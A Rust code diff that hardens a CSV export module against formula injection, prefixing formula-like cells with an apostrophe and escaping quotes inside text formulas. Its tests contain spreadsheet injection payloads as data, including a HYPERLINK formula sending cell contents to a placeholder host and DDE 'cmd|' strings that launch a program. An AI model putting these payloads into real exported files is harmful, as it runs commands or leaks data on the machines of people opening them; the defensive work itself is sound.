@@ -4,10 +4,13 @@
 //! the formula of a text, `="…"`, with the escapes of JSON. Spreadsheets write `="0123"` themselves,
 //! for what is not to become a number.
 //!
+//! A cell in which a spreadsheet would see a formula begins with an apostrophe. A workspace has many
+//! authors, and a formula runs programs and asks for pages on the machine of whoever opens the table.
+//!
 //! Invariant: `parse(&write(rows))` gives the rows back, whatever their cells hold.
 
 use super::Complaint;
-use crate::ImportError;
+use crate::{ImportError, number};
 
 /// A row and the line of the file where it begins, counted from 1.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -99,11 +102,30 @@ pub(super) fn parse(text: &str) -> Result<Vec<Row>, ImportError> {
     Ok(rows)
 }
 
-/// How the formula of a text begins.
-const FORMULA: &str = "=\"";
+/// Whether a spreadsheet would reckon with the cell, apart from apostrophes in front of it: it begins
+/// like a formula and is neither a number nor a flag (`=5`, `=true`), nor a mere list's dash or an
+/// account's name, which ask for nothing.
+fn is_formula(cell: &str) -> bool {
+    let text = cell.trim_start_matches('\'').trim_start();
+    // The wide forms count in some countries.
+    match text.chars().next() {
+        Some('=' | '\u{ff1d}') => {
+            let rest = text.trim_start_matches(['=', '\u{ff1d}']);
+            !matches!(rest, "true" | "false") && number::parse(rest).is_none()
+        }
+        Some('+' | '-' | '@' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}') => {
+            text.contains(['(', '|', '!', '\u{ff08}', '\u{ff01}'])
+        }
+        _ => false,
+    }
+}
 
-/// What a cell says: the text of a formula that is nothing but a text, else what stands there.
+/// What a cell says: what stands behind the apostrophe that keeps it from being a formula, the text of
+/// a formula that is nothing but a text, else what stands there.
 fn plain(cell: String) -> String {
+    if let Some(kept) = cell.strip_prefix('\'').filter(|kept| is_formula(kept)) {
+        return kept.to_owned();
+    }
     let text = cell.strip_prefix('=').filter(|text| text.starts_with('"'));
     match text.map(serde_json::from_str::<String>) {
         Some(Ok(text)) => text,
@@ -177,11 +199,13 @@ pub(super) fn write<'a>(table: &mut String, cells: impl IntoIterator<Item = &'a 
         if at > 0 {
             table.push(',');
         }
-        let formula;
-        let cell = if cell.contains('\0') || cell.starts_with(FORMULA) {
-            // Text can always be written as JSON.
-            formula = format!("={}", serde_json::to_string(cell).unwrap_or_default());
-            &formula
+        let marked;
+        let cell = if cell.contains('\0') {
+            marked = text_formula(cell);
+            &marked
+        } else if is_formula(cell) {
+            marked = format!("'{cell}");
+            &marked
         } else {
             cell
         };
@@ -197,6 +221,14 @@ pub(super) fn write<'a>(table: &mut String, cells: impl IntoIterator<Item = &'a 
         }
     }
     table.push_str("\r\n");
+}
+
+/// The formula of a text. No quotation mark stands within, where a spreadsheet would let the text end.
+fn text_formula(text: &str) -> String {
+    // Text can always be written as JSON.
+    let json = serde_json::to_string(text).unwrap_or_default();
+    let within = json.get(1..json.len() - 1).unwrap_or_default();
+    format!("=\"{}\"", within.replace("\\\"", "\\u0022"))
 }
 
 #[cfg(test)]
@@ -257,6 +289,49 @@ mod tests {
     }
 
     #[test]
+    fn what_a_spreadsheet_would_reckon_with_begins_with_an_apostrophe() {
+        let formulas = [
+            "=HYPERLINK(\"http://x.example?\"&A1)",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(A1)",
+            " \t=1+1",
+            "\u{ff1d}A1",
+            "'=1+1",
+            "=\"0123\"",
+        ];
+        for text in formulas {
+            let mut table = String::new();
+            write(&mut table, [text, "b"]);
+            assert!(table.trim_start_matches('"').starts_with('\''), "{table}");
+            assert_eq!(cells(&table), [[text, "b"]]);
+        }
+        let row = [
+            "-5",
+            "=5",
+            "=true",
+            "- a list",
+            "@anna",
+            "+49 30",
+            "'twas",
+            "1 = 2 (!)",
+        ];
+        let mut table = String::new();
+        write(&mut table, row);
+        assert_eq!(table.trim_end(), row.join(","));
+        assert_eq!(cells(&table), [row]);
+    }
+
+    #[test]
+    fn a_text_in_a_formula_cannot_end_before_the_formula() {
+        let row = ["\0\"&cmd|'/C calc'!A0&\"", "\0\\"];
+        let mut table = String::new();
+        write(&mut table, row);
+        assert_eq!(cells(&table), [row]);
+        let formula = &parse(&table.replacen('=', "", 1)).unwrap()[0].cells[0];
+        assert_eq!(formula.matches('"').count(), 2, "{formula}");
+    }
+
+    #[test]
     fn what_is_written_reads_back() {
         arbtest::arbtest(|u| {
             let columns = u.int_in_range(1..=4)?;
@@ -264,7 +339,8 @@ mod tests {
             for _ in 0..u.int_in_range(1..=4)? {
                 let mut row = Vec::new();
                 for _ in 0..columns {
-                    row.push(u.arbitrary()?);
+                    let begin = u.choose(&["", "=", "'", "'=", "-(", "=\""])?;
+                    row.push(format!("{begin}{}", u.arbitrary::<&str>()?));
                 }
                 rows.push(row);
             }
